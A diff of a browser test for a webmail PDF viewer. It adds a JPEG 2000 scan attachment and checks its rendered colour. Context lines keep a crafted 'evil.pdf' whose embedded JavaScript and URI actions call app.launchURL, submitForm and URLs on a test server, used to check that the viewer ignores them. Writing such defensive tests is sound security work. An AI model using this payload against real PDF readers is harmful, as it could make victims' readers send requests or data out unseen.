@@ -87,8 +87,11 @@ describe('reading', { timeout: 150_000 }, () => {
     const pdf = await printer.pdf({ printBackground: true })
     await printer.close()
     const evil = `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${offices.there}/js"\\); this.submitForm\\("${offices.there}/form"\\);) /Next << /S /URI /URI (${offices.there}/uri) >> >> >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /AA << /O << /S /URI /URI (${offices.there}/page) >> >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`
+    // A green picture as JPEG 2000, whose decoder is WebAssembly.
+    const green = Buffer.from('/0//UQAvAAAAAAAQAAAAEAAAAAAAAAAAAAAAEAAAABAAAAAAAAAAAAADBwEBBwEBBwEB/1IADAAAAAEBAAQEAAH/XAAEQED/ZAAlAAFDcmVhdGVkIGJ5IE9wZW5KUEVHIHZlcnNpb24gMi41LjD/kAAKAAAAAABAAAH/k8fUDhFQVK/fSH/fgIgRUFSv9JywPAAAAABhIS//f9+AiBFQVK/0nLA8AAAAAGEhL/9//9k=', 'base64')
+    const scan = Buffer.concat([Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /XObject << /Im 4 0 R >> >> /Contents 5 0 R >>\nendobj\n5 0 obj\n<< /Length 30 >>\nstream\nq 300 0 0 200 0 0 cm /Im Do Q \nendstream\nendobj\n4 0 obj\n<< /Type /XObject /Subtype /Image /Width 16 /Height 16 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /JPXDecode /Length ${green.length} >>\nstream\n`), green, Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n')])
     const file = (name, octets) => `--x\r\nContent-Type: application/pdf; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${octets.toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n`
-    await offices.append('ann', `From: Bob <bob@here.test>\r\nTo: ann@here.test\r\nSubject: Ferry\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nBoth.\r\n${file('ferry.pdf', pdf)}${file('evil.pdf', Buffer.from(evil))}${file('broken.pdf', Buffer.from('%PDF-1.7 and no more'))}--x--\r\n`)
+    await offices.append('ann', `From: Bob <bob@here.test>\r\nTo: ann@here.test\r\nSubject: Ferry\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nBoth.\r\n${file('ferry.pdf', pdf)}${file('evil.pdf', Buffer.from(evil))}${file('broken.pdf', Buffer.from('%PDF-1.7 and no more'))}${file('scan.pdf', scan)}--x--\r\n`)
     await ann.locator('.row', { hasText: 'Ferry' }).click()
     const view = (name) => ann.locator('.files li', { hasText: name }).getByRole('button', { name: 'View', exact: true }).click()
     await view('ferry.pdf')
@@ -101,6 +104,11 @@ describe('reading', { timeout: 150_000 }, () => {
     await dialog.locator('canvas').last().scrollIntoViewIfNeeded()
     await dialog.getByRole('img', { name: 'Prices' }).waitFor()
     await ann.screenshot({ path: join(pictures, 'pdf.png') })
+    await ann.keyboard.press('Escape')
+    await view('scan.pdf')
+    const scanned = ann.getByRole('dialog', { name: 'scan.pdf' }).locator('canvas[data-drawn]')
+    await scanned.waitFor()
+    assert.deepEqual(await scanned.evaluate((c) => [...c.getContext('2d').getImageData(c.width / 2, c.height / 2, 1, 1).data]), [0, 160, 0, 255])
     await ann.keyboard.press('Escape')
     await view('evil.pdf')
     await ann.getByRole('dialog', { name: 'evil.pdf' }).locator('canvas[data-drawn]').waitFor()
